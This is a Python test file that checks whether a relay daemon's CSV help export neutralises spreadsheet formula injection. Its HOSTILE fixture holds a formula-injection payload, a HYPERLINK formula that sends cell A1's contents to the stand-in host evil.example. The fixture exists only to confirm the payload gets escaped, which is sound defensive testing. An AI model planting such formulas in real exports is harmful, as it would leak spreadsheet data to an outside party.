"""Issue 14 item 5: no CSV noodrelay writes can carry a formula into a spreadsheet."""

from __future__ import annotations

import csv
import io

from aiohttp.test_utils import TestClient, TestServer

from relay.csvfile import safe_cell, write_dicts
from relay.daemon import help_ops
from relay.daemon.api import make_app
from tests.daemon.conftest import Cluster, wait_for

HOSTILE: dict[str, object] = {
    "type": "other",
    "urgency": "urgent",
    "people": 2,
    "location": '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")',
    "text": "+31 6 12345678 bellen",
    "handler": "@anna",
}


def test_every_formula_start_is_neutralised_and_numbers_stay() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Kerkstraat 1") == "Kerkstraat 1"
    assert safe_cell(-5) == -5 and safe_cell(None) is None
    text = write_dicts(["a", "b"], [{"a": "=1+1", "b": -5}, {"a": "ok"}])
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["'=1+1", "-5"], ["ok", ""]]


async def test_help_export_neutralises_formulas_typed_at_a_point(cluster: Cluster) -> None:
    hub = await cluster.start("hub-utrecht", "hub")
    p1 = await cluster.start("np-001", "point", 1)
    help_ops.send(p1, HOSTILE)
    await wait_for(lambda: len(hub.store.help.all()) == 1)
    async with TestClient(TestServer(make_app(hub, "h"))) as client:
        r = await client.get("/api/help/export?format=csv", headers={"Authorization": "Bearer h"})
        [row] = list(csv.DictReader(io.StringIO(await r.text())))
    assert row["location"] == "'" + str(HOSTILE["location"])
    assert row["text"] == "'+31 6 12345678 bellen" and row["handler"] == "'@anna"
    assert row["people"] == "2" and row["point"] == "np-001"
    cells = [v for v in row.values() if v]
    assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
